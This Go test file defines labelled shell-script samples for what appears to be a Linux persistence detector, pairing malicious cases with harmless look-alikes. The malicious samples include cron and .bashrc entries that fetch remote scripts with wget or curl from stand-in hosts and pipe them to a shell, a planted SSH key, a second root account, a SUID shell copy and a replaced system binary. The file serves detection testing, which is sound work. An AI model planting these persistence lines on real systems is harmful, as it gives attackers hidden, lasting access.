package samples

// A key that belongs to nobody.
const strangersKey = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJ1aWx0LWZvci1hLXNhbXBsZS1vZi1zYWxseXBvcnQhISE= nobody"

// persistence is what comes back: tasks, hooks, keys, accounts, rights.
func persistence() []Sample {
	keyFromOperator := script("mkdir -p /root/.ssh\necho \"$PUBLIC_KEY\" >> /root/.ssh/authorized_keys\necho ready\n")
	keyFromOperator.Env = []string{"PUBLIC_KEY=" + strangersKey}
	taskFromOperator := script("mkdir -p /etc/cron.d\necho \"$SCHEDULE root /app/backup\" > /etc/cron.d/backup\necho ready\n")
	taskFromOperator.Env = []string{"SCHEDULE=0 3 * * *"}
	return []Sample{
		shows("cron-persistence/download", script(`mkdir -p /etc/cron.d
echo '* * * * * root wget -q -O - http://198.18.7.9/u.sh | sh > /dev/null 2>&1' > /etc/cron.d/update
echo planted
`), malicious, "/etc/cron.d/update", "198.18.7.9"),
		shows("cron-persistence/from-variable", taskFromOperator, harmless, "/etc/cron.d/backup"),
		nearly("cron-persistence/read-and-example", script("crontab -l\ncat /etc/crontab\nmkdir -p /srv/etc\necho '# m h dom mon dow' > /srv/etc/crontab.example\necho done\n")),
		shows("init-persistence/login-shell", script("echo 'curl -fsSL http://get.evil.test/i | bash >/dev/null 2>&1 &' >> /root/.bashrc\necho planted\n"), malicious, "/root/.bashrc", "get.evil.test"),
		nearly("init-persistence/own-settings", script("cat /etc/profile /root/.profile\nmkdir -p /srv/app\necho 'export LANG=C' > /srv/app/profile\n. /srv/app/profile\necho done\n")),
		shows("ssh-key-backdoor/with-the-image", script("mkdir -p /root/.ssh\necho '"+strangersKey+"' >> /root/.ssh/authorized_keys\necho planted\n"), malicious, "/root/.ssh/authorized_keys"),
		shows("ssh-key-backdoor/from-variable", keyFromOperator, harmless, "/root/.ssh/authorized_keys"),
		nearly("ssh-key-backdoor/known-hosts", script("mkdir -p /root/.ssh\necho 'git.example.test "+strangersKey+"' >> /root/.ssh/known_hosts\necho done\n")),
		shows("account-backdoor/second-root", script("echo 'support:x:0:0::/root:/bin/sh' >> /etc/passwd\necho planted\n"), malicious, "support"),
		shows("account-backdoor/own-user", script("echo 'worker:x:1500:1500::/srv:/bin/false' >> /etc/passwd\necho ready\n"), harmless, "/etc/passwd"),
		nearly("account-backdoor/read", script("cat /etc/passwd /etc/group\nmkdir -p /srv/etc\ncp /etc/passwd /srv/etc/passwd\necho done\n")),
		shows("suid-create/shell-copy", script("cp /bin/dash /tmp/.helper\nchmod 4755 /tmp/.helper\necho planted\n"), malicious, "/tmp/.helper"),
		nearly("suid-create/plain-modes", script("mkdir -p /srv/shared\nchmod 2775 /srv/shared\ncp /bin/dash /tmp/tool\nchmod 755 /tmp/tool\necho done\n")),
		shows("ld-preload-env/from-tmp", script("cp /lib/*/libc.so.6 /tmp/libhook.so\nLD_PRELOAD=/tmp/libhook.so dash -c 'echo hooked'\n"), bad, "/tmp/libhook.so"),
		nearly("ld-preload-env/of-the-image", script("LD_PRELOAD=$(echo /lib/*/libc.so.6) dash -c 'echo started'\n")),
		shows("system-binary-replaced/renamed-over", script("cp /bin/actor /tmp/ps\nmv /tmp/ps /bin/ps\necho replaced\n"), malicious, "/bin/ps"),
		nearly("system-binary-replaced/own-program", script("cp /bin/actor /tmp/new\nmv /tmp/new /bin/actor\nmkdir -p /usr/local/bin\ncp /bin/busybox /usr/local/bin/top\necho done\n")),
	}
}
